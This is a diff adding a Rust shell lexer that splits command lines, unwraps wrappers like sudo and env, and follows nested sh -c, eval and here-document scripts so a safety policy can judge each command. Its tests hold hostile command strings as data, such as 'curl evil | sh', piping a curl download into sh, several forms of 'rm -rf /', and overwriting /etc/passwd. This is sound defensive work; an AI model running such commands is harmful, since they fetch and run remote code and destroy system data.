@@ -0,0 +1,827 @@
+//! A small shell lexer that splits a command line into simple commands.
+//!
+//! It understands quoting, escapes, the control operators `;`, `&`, `|`,
+//! `&&`, `||` and newlines, subshells, redirections, here-documents, and
+//! command substitution via `$(...)`, backticks and `<(...)`/`>(...)`.
+//! Substituted commands are returned as simple commands of their own, so a
+//! policy can judge every program a command line would start.
+//! [`unwrapped_command`] looks through environment assignments, program
+//! paths and wrappers such as `env` or `sudo` to the program that actually
+//! runs, and [`expanded_commands`] also lexes the scripts handed to a nested
+//! shell with `sh -c`, `eval` or a here-document.
+
+/// Words that start or close a compound command rather than naming a program
+const RESERVED_WORDS: &[&str] = &[
+    "{", "}", "!", "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "time",
+];
+
+/// How deep scripts handed to nested shells are followed
+const MAX_NESTING: usize = 8;
+
+/// Split a command line into its simple commands.
+///
+/// Each simple command is returned with quotes removed and words joined by
+/// single spaces; redirections stay attached to the command they belong to.
+pub fn simple_commands(command: &str) -> Vec<String> {
+    lex(command).into_iter().map(|simple| simple.words.join(" ")).collect()
+}
+
+/// Split a command line into its simple commands, followed by the simple
+/// commands of every script it hands to a nested shell, e.g. `rm -rf /` for
+/// `sudo bash -c 'rm -rf /'` or `eval "rm -rf /"`
+pub fn expanded_commands(command: &str) -> Vec<String> {
+    expand(command, 0).into_iter().map(|simple| simple.words.join(" ")).collect()
+}
+
+/// The simple commands of a command line in a canonical form for matching
+/// safety rules: unwrapped, with short option clusters split into single
+/// options sorted ahead of the operands, and relative operands resolved
+/// against an earlier `cd` to an absolute directory. `cd / && rm -rf *`
+/// becomes `rm -f -r /*`.
+pub fn canonical_commands(command: &str) -> Vec<String> {
+    located_commands(command)
+        .into_iter()
+        .filter_map(|(directory, simple)| {
+            let arguments = simple.arguments();
+            let (program, args) = arguments[program_start(&arguments)..].split_first()?;
+
+            let mut options = Vec::new();
+            let mut operands = Vec::new();
+            let mut end_of_options = false;
+            for arg in args {
+                if end_of_options || !arg.starts_with('-') || *arg == "-" {
+                    operands.push(resolve(directory.as_deref(), arg).unwrap_or_else(|| arg.to_string()));
+                } else if *arg == "--" {
+                    end_of_options = true;
+                } else if arg.starts_with("--") {
+                    options.push(arg.to_string());
+                } else {
+                    options.extend(arg.chars().skip(1).map(|flag| format!("-{}", flag)));
+                }
+            }
+            options.sort_by_key(|option| option.trim_start_matches('-').to_lowercase());
+            options.dedup();
+
+            let canonical = std::iter::once(basename(program).to_string())
+                .chain(options)
+                .chain(operands)
+                .collect::<Vec<_>>()
+                .join(" ");
+            Some(canonical)
+        })
+        .collect()
+}
+
+/// Files a command line writes through output redirections such as
+/// `> out.log`, `>> notes.md` or `&> log`, resolved against an earlier `cd`
+/// to an absolute directory. Duplicated descriptors (`2>&1`) and
+/// `/dev/null`-like devices are left out.
+pub fn write_redirections(command: &str) -> Vec<String> {
+    let mut targets = Vec::new();
+    for (directory, simple) in located_commands(command) {
+        for &(index, op_len) in &simple.redirections {
+            let (op, target) = simple.words[index].split_at(op_len);
+            let op = op.trim_start_matches(|c: char| c.is_ascii_digit());
+            let writes = match op {
+                ">" | ">>" | ">|" | "&>" | "&>>" | "<>" => true,
+                ">&" => !target.chars().all(|c| c.is_ascii_digit() || c == '-'),
+                _ => false,
+            };
+            if writes && !target.is_empty() && !matches!(target, "/dev/null" | "/dev/stdout" | "/dev/stderr") {
+                targets.push(resolve(directory.as_deref(), target).unwrap_or_else(|| target.to_string()));
+            }
+        }
+    }
+    targets
+}
+
+/// Programs that run the command given in their arguments, with the options
+/// of each that take a value and the number of arguments before the command
+const WRAPPERS: &[(&str, &[&str], usize)] = &[
+    ("env", &["-u", "-C", "-S", "--unset", "--chdir", "--split-string"], 0),
+    ("command", &[], 0),
+    ("exec", &["-a"], 0),
+    ("nice", &["-n", "--adjustment"], 0),
+    ("nohup", &[], 0),
+    ("xargs", &["-a", "-d", "-E", "-I", "-L", "-n", "-P", "-s", "--arg-file", "--delimiter", "--max-args", "--max-procs"], 0),
+    ("time", &["-f", "-o", "--format", "--output"], 0),
+    ("timeout", &["-s", "-k", "--signal", "--kill-after"], 1),
+    ("sudo", &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-T", "-U", "--user", "--group", "--chdir", "--host", "--prompt"], 0),
+];
+
+/// Shells that run a script given with `-c`, or read one from their input
+const SHELLS: &[&str] = &["sh", "bash", "dash", "ksh", "zsh"];
+
+/// Shell options that take a value
+const SHELL_VALUE_OPTIONS: &[&str] = &["-o", "+o", "-O", "+O", "--rcfile", "--init-file"];
+
+/// The command a simple command runs once leading `VAR=value` assignments
+/// and wrappers like `env`, `nice`, `xargs` or `sudo -u x` are removed and
+/// the program is reduced to its base name, e.g. `rm -rf /` for
+/// `FOO=1 sudo -u root /bin/rm -rf /`. `None` when the simple command is
+/// already in that form.
+pub fn unwrapped_command(simple: &str) -> Option<String> {
+    let words: Vec<&str> = simple.split(' ').filter(|word| !word.is_empty()).collect();
+    let (program, args) = words[program_start(&words)..].split_first()?;
+    let unwrapped = std::iter::once(basename(program))
+        .chain(args.iter().copied())
+        .collect::<Vec<_>>()
+        .join(" ");
+    (unwrapped != simple).then_some(unwrapped)
+}
+
+/// Index of the word naming the program that actually runs, past
+/// assignments and wrappers with their options
+fn program_start<S: AsRef<str>>(words: &[S]) -> usize {
+    let word = |index: usize| words.get(index).map(AsRef::as_ref);
+    let mut start = 0;
+
+    loop {
+        while word(start).is_some_and(is_assignment) {
+            start += 1;
+        }
+        let Some(program) = word(start) else { break };
+        let Some((_, value_options, positional)) = WRAPPERS.iter().find(|(wrapper, ..)| *wrapper == basename(program)) else {
+            break;
+        };
+
+        start += 1;
+        while let Some(arg) = word(start) {
+            if arg == "--" {
+                start += 1;
+                break;
+            }
+            if !arg.starts_with('-') || arg == "-" {
+                break;
+            }
+            start += 1;
+            // `-n 5` takes the next word; `-n5` and `--adjustment=5` do not
+            if value_options.contains(&arg) {
+                start += 1;
+            }
+        }
+        // e.g. the duration of `timeout 5 cmd`
+        start += positional;
+    }
+
+    start.min(words.len())
+}
+
+/// The script a simple command hands to a nested shell: the `-c` argument
+/// of a shell, the here-document a shell reads as its input, or the
+/// arguments of `eval`
+fn nested_script(words: &[&str], heredocs: &[String]) -> Option<String> {
+    let (program, args) = words.split_first()?;
+    let program = basename(program);
+    if program == "eval" {
+        return Some(args.join(" "));
+    }
+    if !SHELLS.contains(&program) {
+        return None;
+    }
+
+    let mut command_string = false;
+    let mut reads_input = false;
+    let mut index = 0;
+    while let Some(arg) = args.get(index) {
+        index += 1;
+        if *arg == "--" || *arg == "-" {
+            break;
+        }
+        if !arg.starts_with(['-', '+']) {
+            index -= 1;
+            break;
+        }
+        if SHELL_VALUE_OPTIONS.contains(arg) {
+            index += 1;
+        } else if !arg.starts_with("--") {
+            command_string |= arg.contains('c');
+            reads_input |= arg.contains('s');
+        }
+    }
+
+    match args.get(index) {
+        Some(script) if command_string => Some(script.to_string()),
+        None if !command_string && !heredocs.is_empty() => Some(heredocs.join("\n")),
+        _ if reads_input && !heredocs.is_empty() => Some(heredocs.join("\n")),
+        _ => None,
+    }
+}
+
+fn basename(program: &str) -> &str {
+    program.rsplit('/').next().unwrap_or(program)
+}
+
+fn is_assignment(word: &str) -> bool {
+    match word.split_once('=') {
+        Some((name, _)) => {
+            !name.is_empty()
+                && !name.starts_with(|c: char| c.is_ascii_digit())
+                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+        }
+        None => false,
+    }
+}
+
+/// Resolve a path against the directory an earlier `cd` moved to, when that
+/// directory is known and absolute
+fn resolve(directory: Option<&str>, path: &str) -> Option<String> {
+    if path.starts_with('/') {
+        return Some(path.to_string());
+    }
+    if path.starts_with(['~', '$', '-']) {
+        return None;
+    }
+    directory.map(|directory| format!("{}/{}", directory.trim_end_matches('/'), path))
+}
+
+/// A simple command as lexed
+#[derive(Debug, Default)]
+struct SimpleCommand {
+    /// Words with quotes removed; redirections keep their operator attached
+    words: Vec<String>,
+    /// Index of each redirection in `words`, with the length of its operator
+    redirections: Vec<(usize, usize)>,
+    /// Bodies of the here-documents the command reads
+    heredocs: Vec<String>,
+}
+
+impl SimpleCommand {
+    /// The words of the command without its redirections
+    fn arguments(&self) -> Vec<&str> {
+        self.words
+            .iter()
+            .enumerate()
+            .filter(|(index, _)| !self.redirections.iter().any(|(redirection, _)| redirection == index))
+            .map(|(_, word)| word.as_str())
+            .collect()
+    }
+}
+
+fn lex(command: &str) -> Vec<SimpleCommand> {
+    let mut lexer = Lexer::new(command);
+    lexer.run();
+    lexer.commands
+}
+
+/// Lex a command line, following the scripts its commands hand to nested
+/// shells; each nested script's commands come right after the command
+/// that runs it
+fn expand(command: &str, depth: usize) -> Vec<SimpleCommand> {
+    let mut commands = Vec::new();
+    for simple in lex(command) {
+        let script = match depth < MAX_NESTING {
+            true => {
+                let arguments = simple.arguments();
+                nested_script(&arguments[program_start(&arguments)..], &simple.heredocs)
+            }
+            false => None,
+        };
+        commands.push(simple);
+        if let Some(script) = script {
+            commands.extend(expand(&script, depth + 1));
+        }
+    }
+    commands
+}
+
+/// Expanded simple commands, each with the absolute directory an earlier
+/// `cd` moved to, if any
+fn located_commands(command: &str) -> Vec<(Option<String>, SimpleCommand)> {
+    let mut directory: Option<String> = None;
+    let mut located = Vec::new();
+    for simple in expand(command, 0) {
+        let current = directory.clone();
+        let arguments = simple.arguments();
+        let arguments = &arguments[program_start(&arguments)..];
+        if arguments.first().is_some_and(|program| basename(program) == "cd") {
+            // `cd`, `cd -` and `cd ~` lead somewhere this lexer cannot know
+            directory = arguments[1..]
+                .iter()
+                .find(|arg| !arg.starts_with('-') || **arg == "-")
+                .and_then(|target| resolve(directory.as_deref(), target));
+        }
+        located.push((current, simple));
+    }
+    located
+}
+
+/// A here-document whose body starts on the line after its operator
+struct Heredoc {
+    delimiter: String,
+    /// `<<-` strips leading tabs from the body and the closing delimiter
+    strip_tabs: bool,
+    /// Whether the body is expanded, i.e. the delimiter was not quoted
+    expand: bool,
+    /// Index of the command reading the body, once that command is finished
+    owner: Option<usize>,
+}
+
+struct Lexer {
+    chars: Vec<char>,
+    pos: usize,
+    word: String,
+    /// Whether the current word has started, so that `""` counts as a word
+    in_word: bool,
+    /// A redirection operator was read and is still waiting for its target
+    redirect_pending: bool,
+    /// Length of the redirection operator starting the current word
+    redirect_op_len: Option<usize>,
+    current: SimpleCommand,
+    /// Here-documents whose bodies have not been read yet
+    heredocs: Vec<Heredoc>,
+    commands: Vec<SimpleCommand>,
+}
+
+impl Lexer {
+    fn new(input: &str) -> Self {
+        Self {
+            chars: input.chars().collect(),
+            pos: 0,
+            word: String::new(),
+            in_word: false,
+            redirect_pending: false,
+            redirect_op_len: None,
+            current: SimpleCommand::default(),
+            heredocs: Vec::new(),
+            commands: Vec::new(),
+        }
+    }
+
+    fn peek(&self, offset: usize) -> Option<char> {
+        self.chars.get(self.pos + offset).copied()
+    }
+
+    fn run(&mut self) {
+        while let Some(c) = self.peek(0) {
+            match c {
+                ' ' | '\t' | '\r' => {
+                    if !self.redirect_pending {
+                        self.finish_word();
+                    }
+                    self.pos += 1;
+                }
+                '\\' => {
+                    match self.peek(1) {
+                        // Line continuation
+                        Some('\n') => {}
+                        Some(escaped) => self.push_char(escaped),
+                        None => {}
+                    }
+                    self.pos += 2;
+                }
+                '\'' => {
+                    self.pos += 1;
+                    self.in_word = true;
+                    while let Some(q) = self.peek(0) {
+                        self.pos += 1;
+                        if q == '\'' {
+                            break;
+                        }
+                        self.push_char(q);
+                    }
+                }
+                '"' => {
+                    self.pos += 1;
+                    self.in_word = true;
+                    self.read_expanded(true);
+                }
+                '`' => {
+                    self.pos += 1;
+                    let inner = self.read_until_backtick();
+                    self.substitute("`", &inner, "`");
+                }
+                '$' if self.peek(1) == Some('(') => {
+                    if self.peek(2) == Some('(') {
+                        // Arithmetic expansion, nothing to execute
+                        self.pos += 3;
+                        let inner = self.read_balanced();
+                        self.skip_char(')');
+                        self.push_str(&format!("$(({}))", inner));
+                    } else {
+                        self.pos += 2;
+                        let inner = self.read_balanced();
+                        self.substitute("$(", &inner, ")");
+                    }
+                }
+                '<' | '>' if self.peek(1) == Some('(') => {
+                    self.pos += 2;
+                    let inner = self.read_balanced();
+                    self.substitute(&format!("{}(", c), &inner, ")");
+                }
+                '<' | '>' => self.read_redirection(),
+                '&' if self.peek(1) == Some('>') => self.read_redirection(),
+                '#' if !self.in_word => {
+                    while let Some(n) = self.peek(0) {
+                        if n == '\n' {
+                            break;
+                        }
+                        self.pos += 1;
+                    }
+                }
+                '\n' => {
+                    self.finish_command();
+                    self.pos += 1;
+                    self.read_heredoc_bodies();
+                }
+                ';' | '&' | '|' | '(' | ')' => {
+                    self.finish_command();
+                    self.pos += 1;
+                }
+                _ => {
+                    self.push_char(c);
+                    self.pos += 1;
+                }
+            }
+        }
+        self.finish_command();
+    }
+
+    fn push_char(&mut self, c: char) {
+        self.word.push(c);
+        self.in_word = true;
+        self.redirect_pending = false;
+    }
+
+    fn push_str(&mut self, s: &str) {
+        self.word.push_str(s);
+        self.in_word = true;
+        self.redirect_pending = false;
+    }
+
+    fn skip_char(&mut self, expected: char) {
+        if self.peek(0) == Some(expected) {
+            self.pos += 1;
+        }
+    }
+
+    fn finish_word(&mut self) {
+        if self.in_word {
+            let word = std::mem::take(&mut self.word);
+            // Reserved words only count at the start of a command
+            let reserved = self.redirect_op_len.is_none()
+                && self.current.words.is_empty()
+                && RESERVED_WORDS.contains(&word.as_str());
+            if !reserved {
+                if let Some(op_len) = self.redirect_op_len {
+                    self.current.redirections.push((self.current.words.len(), op_len));
+                }
+                self.current.words.push(word);
+            }
+        }
+        self.in_word = false;
+        self.redirect_pending = false;
+        self.redirect_op_len = None;
+    }
+
+    fn finish_command(&mut self) {
+        self.finish_word();
+        if !self.current.words.is_empty() {
+            for heredoc in self.heredocs.iter_mut().filter(|heredoc| heredoc.owner.is_none()) {
+                heredoc.owner = Some(self.commands.len());
+            }
+            self.commands.push(std::mem::take(&mut self.current));
+        }
+    }
+
+    /// Record a command substitution: its body becomes a separate simple
+    /// command and the outer word keeps the substitution verbatim
+    fn substitute(&mut self, open: &str, inner: &str, close: &str) {
+        self.commands.extend(lex(inner));
+        self.push_str(&format!("{}{}{}", open, inner, close));
+    }
+
+    /// Read text in which substitutions are expanded: the rest of a double
+    /// quoted string, or the whole input when `quoted` is false
+    fn read_expanded(&mut self, quoted: bool) {
+        while let Some(c) = self.peek(0) {
+            match c {
+                '"' if quoted => {
+                    self.pos += 1;
+                    return;
+                }
+                '\\' => {
+                    match self.peek(1) {
+                        Some(e @ ('\\' | '$' | '`')) => self.push_char(e),
+                        Some('"') if quoted => self.push_char('"'),
+                        Some('\n') => {}
+                        Some(other) => {
+                            self.push_char('\\');
+                            self.push_char(other);
+                        }
+                        None => {}
+                    }
+                    self.pos += 2;
+                }
+                '`' => {
+                    self.pos += 1;
+                    let inner = self.read_until_backtick();
+                    self.substitute("`", &inner, "`");
+                }
+                '$' if self.peek(1) == Some('(') && self.peek(2) != Some('(') => {
+                    self.pos += 2;
+                    let inner = self.read_balanced();
+                    self.substitute("$(", &inner, ")");
+                }
+                _ => {
+                    self.push_char(c);
+                    self.pos += 1;
+                }
+            }
+        }
+    }
+
+    fn read_until_backtick(&mut self) -> String {
+        let mut inner = String::new();
+        while let Some(c) = self.peek(0) {
+            self.pos += 1;
+            match c {
+                '`' => break,
+                '\\' => {
+                    if let Some(escaped) = self.peek(0) {
+                        inner.push(escaped);
+                        self.pos += 1;
+                    }
+                }
+                _ => inner.push(c),
+            }
+        }
+        inner
+    }
+
+    /// Read up to the parenthesis closing an already consumed `(`,
+    /// respecting quotes and nesting, and consume the closing parenthesis
+    fn read_balanced(&mut self) -> String {
+        let mut inner = String::new();
+        let mut depth = 1;
+        let mut quote: Option<char> = None;
+
+        while let Some(c) = self.peek(0) {
+            self.pos += 1;
+            match (quote, c) {
+                (Some(q), _) if c == q => quote = None,
+                (Some('"'), '\\') | (None, '\\') => {
+                    inner.push(c);
+                    if let Some(escaped) = self.peek(0) {
+                        inner.push(escaped);
+                        self.pos += 1;
+                    }
+                    continue;
+                }
+                (Some(_), _) => {}
+                (None, '\'' | '"') => quote = Some(c),
+                (None, '(') => depth += 1,
+                (None, ')') => {
+                    depth -= 1;
+                    if depth == 0 {
+                        break;
+                    }
+                }
+                _ => {}
+            }
+            inner.push(c);
+        }
+
+        inner
+    }
+
+    /// Read a redirection operator such as `>`, `2>>`, `&>` or `<<<`; the
+    /// target that follows is appended to the same word
+    fn read_redirection(&mut self) {
+        // A word made only of digits right before the operator is a file descriptor
+        let fd_prefix = self.in_word && !self.word.is_empty() && self.word.chars().all(|c| c.is_ascii_digit());
+        if !fd_prefix {
+            self.finish_word();
+        }
+
+        let mut op = String::new();
+        while let Some(c) = self.peek(0) {
+            let continues = match c {
+                '<' | '>' => true,
+                '&' => op.is_empty() || op.ends_with('>') || op.ends_with('<'),
+                '|' => op == ">",
+                '-' => op == "<<",
+                _ => false,
+            };
+            if !continues {
+                break;
+            }
+            op.push(c);
+            self.pos += 1;
+        }
+
+        self.push_str(&op);
+        self.redirect_op_len = Some(self.word.len());
+        self.redirect_pending = true;
+        if op == "<<" || op == "<<-" {
+            self.read_heredoc_delimiter(op == "<<-");
+        }
+    }
+
+    /// Read the delimiter word of a here-document operator; the body is read
+    /// once the line ends
+    fn read_heredoc_delimiter(&mut self, strip_tabs: bool) {
+        while matches!(self.peek(0), Some(' ' | '\t')) {
+            self.pos += 1;
+        }
+
+        let mut delimiter = String::new();
+        let mut quoted = false;
+        let mut quote: Option<char> = None;
+        while let Some(c) = self.peek(0) {
+            match (quote, c) {
+                (Some(q), _) if c == q => quote = None,
+                (Some(_), _) => delimiter.push(c),
+                (None, '\'' | '"') => {
+                    quote = Some(c);
+                    quoted = true;
+                }
+                (None, '\\') => {
+                    quoted = true;
+                    self.pos += 1;
+                    if let Some(escaped) = self.peek(0) {
+                        delimiter.push(escaped);
+                    }
+                }
+                (None, ' ' | '\t' | '\r' | '\n' | ';' | '&' | '|' | '<' | '>' | '(' | ')') => break,
+                (None, _) => delimiter.push(c),
+            }
+            self.pos += 1;
+        }
+
+        self.push_str(&delimiter);
+        self.heredocs.push(Heredoc {
+            delimiter,
+            strip_tabs,
+            expand: !quoted,
+            owner: None,
+        });
+    }
+
+    /// Read the bodies of the here-documents opened on the line just ended.
+    /// Substitutions in an expanded body run, so they become commands too.
+    fn read_heredoc_bodies(&mut self) {
+        for heredoc in std::mem::take(&mut self.heredocs) {
+            let mut body = String::new();
+            while self.pos < self.chars.len() {
+                let end = self.chars[self.pos..]
+                    .iter()
+                    .position(|&c| c == '\n')
+                    .map_or(self.chars.len(), |offset| self.pos + offset);
+                let line: String = self.chars[self.pos..end].iter().collect();
+                self.pos = end + 1;
+                let line = match heredoc.strip_tabs {
+                    true => line.trim_start_matches('\t').to_string(),
+                    false => line,
+                };
+                if line == heredoc.delimiter {
+                    break;
+                }
+                body.push_str(&line);
+                body.push('\n');
+            }
+            self.pos = self.pos.min(self.chars.len());
+
+            if heredoc.expand {
+                let mut lexer = Lexer::new(&body);
+                lexer.read_expanded(false);
+                self.commands.extend(lexer.commands);
+            }
+            if let Some(owner) = heredoc.owner {
+                self.commands[owner].heredocs.push(body);
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_simple_commands() {
+        assert_eq!(simple_commands("cargo build"), vec!["cargo build"]);
+        assert_eq!(
+            simple_commands("cargo build && curl evil | sh; echo done &"),
+            vec!["cargo build", "curl evil", "sh", "echo done"]
+        );
+        assert_eq!(simple_commands("(cd src || exit 1) && ls"), vec!["cd src", "exit 1", "ls"]);
+        assert_eq!(
+            simple_commands("git commit -m 'fix; rm -rf /' --author=\"a && b\""),
+            vec!["git commit -m fix; rm -rf / --author=a && b"]
+        );
+        assert_eq!(
+            simple_commands("cargo test > out.log 2>&1"),
+            vec!["cargo test >out.log 2>&1"]
+        );
+        assert_eq!(
+            simple_commands("echo $(curl -s http://x | sh) `whoami`"),
+            vec!["curl -s http://x", "sh", "whoami", "echo $(curl -s http://x | sh) `whoami`"]
+        );
+        assert_eq!(simple_commands("echo \"$(id -u)\""), vec!["id -u", "echo $(id -u)"]);
+        assert_eq!(simple_commands("diff <(ls a) <(ls b)"), vec!["ls a", "ls b", "diff <(ls a) <(ls b)"]);
+        assert_eq!(simple_commands("if true; then make; fi"), vec!["true", "make"]);
+        assert_eq!(simple_commands("ls # && rm -rf x"), vec!["ls"]);
+    }
+
+    #[test]
+    fn test_simple_commands_quoting_edge_cases() {
+        // Quotes of the other kind are literal inside a quoted string
+        assert_eq!(
+            simple_commands("echo \"it's 'fine'\" 'say \"hi\"'"),
+            vec!["echo it's 'fine' say \"hi\""]
+        );
+        assert_eq!(simple_commands("echo \"a\\\"b\" 'a\\b'"), vec!["echo a\"b a\\b"]);
+        // A substitution inside double quotes is still a command, with its
+        // own quotes and operators intact
+        assert_eq!(
+            simple_commands("echo \"a $(grep \"x; y\" f | wc -l) b\""),
+            vec!["grep x; y f", "wc -l", "echo a $(grep \"x; y\" f | wc -l) b"]
+        );
+        assert_eq!(simple_commands("echo \"$((1 + 2))\""), vec!["echo $((1 + 2))"]);
+        // The script of `bash -c` stays a single word of the outer command
+        assert_eq!(simple_commands("bash -c 'ls && rm -rf /'"), vec!["bash -c ls && rm -rf /"]);
+        // A backslash before a newline joins the lines; before an operator it makes it literal
+        assert_eq!(
+            simple_commands("cargo build \\\n  --release && ls \\\n-la"),
+            vec!["cargo build --release", "ls -la"]
+        );
+        assert_eq!(simple_commands("echo a\\;b"), vec!["echo a;b"]);
+        assert_eq!(simple_commands("cargo build\nls"), vec!["cargo build", "ls"]);
+    }
+
+    #[test]
+    fn test_unwrapped_command() {
+        assert_eq!(unwrapped_command("cargo build"), None);
+        assert_eq!(unwrapped_command("FOO=1 BAR=x cargo build"), Some("cargo build".to_string()));
+        assert_eq!(unwrapped_command("/usr/bin/git status"), Some("git status".to_string()));
+        assert_eq!(unwrapped_command("sudo -u root -- rm -r x"), Some("rm -r x".to_string()));
+        assert_eq!(unwrapped_command("nice -n5 nohup env -u HOME ls"), Some("ls".to_string()));
+        assert_eq!(unwrapped_command("xargs -I {} cp {} out"), Some("cp {} out".to_string()));
+        assert_eq!(unwrapped_command("timeout --signal=KILL -k 5 10s make test"), Some("make test".to_string()));
+        assert_eq!(unwrapped_command("FOO=1"), None);
+        assert_eq!(unwrapped_command("env"), None);
+    }
+
+    #[test]
+    fn test_heredocs() {
+        // The body is the command's input, not commands of its own
+        assert_eq!(
+            simple_commands("cat <<EOF > notes.md\nrm -rf /\nEOF\nls"),
+            vec!["cat <<EOF >notes.md", "ls"]
+        );
+        assert_eq!(
+            simple_commands("cat <<-'END' | wc -l && ls\n\t$(whoami)\n\tEND\nls -la"),
+            vec!["cat <<-END", "wc -l", "ls", "ls -la"]
+        );
+        // Unless the delimiter is quoted, substitutions in the body still run
+        assert_eq!(
+            simple_commands("cat <<EOF\nuser: $(whoami) `id -u`\nEOF"),
+            vec!["cat <<EOF", "whoami", "id -u"]
+        );
+        assert_eq!(simple_commands("cat <<< 'rm -rf /'"), vec!["cat <<<rm -rf /"]);
+    }
+
+    #[test]
+    fn test_expanded_commands() {
+        assert_eq!(expanded_commands("bash -c 'ls && rm -rf /'"), vec!["bash -c ls && rm -rf /", "ls", "rm -rf /"]);
+        assert_eq!(expanded_commands("sudo -u x sh -ec \"eval 'make install'\""), vec![
+            "sudo -u x sh -ec eval 'make install'",
+            "eval make install",
+            "make install",
+        ]);
+        assert_eq!(expanded_commands("bash -o pipefail -c 'ls' 2>/dev/null"), vec!["bash -o pipefail -c ls 2>/dev/null", "ls"]);
+        assert_eq!(expanded_commands("bash <<EOF\ncd /\nls\nEOF"), vec!["bash <<EOF", "cd /", "ls"]);
+        // A script file cannot be judged from the command line
+        assert_eq!(expanded_commands("bash build.sh -c 'rm -rf /'"), vec!["bash build.sh -c rm -rf /"]);
+
+        let deep = (0..20).fold("ls".to_string(), |script, _| format!("eval {}", script));
+        assert_eq!(expanded_commands(&deep).len(), MAX_NESTING + 1);
+    }
+
+    #[test]
+    fn test_canonical_commands() {
+        assert_eq!(canonical_commands("rm -fr /"), vec!["rm -f -r /"]);
+        assert_eq!(canonical_commands("sudo rm --recursive -vf -- -x /"), vec!["rm -f --recursive -v -x /"]);
+        assert_eq!(canonical_commands("cd / && rm -rf * > log"), vec!["cd /", "rm -f -r /*"]);
+        assert_eq!(canonical_commands("cd /srv; cd data && rm -r x; cd ~ && rm -r y"), vec![
+            "cd /srv",
+            "cd /srv/data",
+            "rm -r /srv/data/x",
+            "cd ~",
+            "rm -r y",
+        ]);
+    }
+
+    #[test]
+    fn test_write_redirections() {
+        assert_eq!(write_redirections("cargo test > out.log 2>&1"), vec!["out.log"]);
+        assert_eq!(
+            write_redirections("make >>build.log 2>errors.log &>all.log < input.txt 1>/dev/null"),
+            vec!["build.log", "errors.log", "all.log"]
+        );
+        assert_eq!(write_redirections("cd /etc && echo x >| passwd"), vec!["/etc/passwd"]);
+        assert_eq!(write_redirections("sh -c 'echo x > /tmp/out'"), vec!["/tmp/out"]);
+        assert!(write_redirections("cat <<EOF\na > b\nEOF").is_empty());
+    }
+}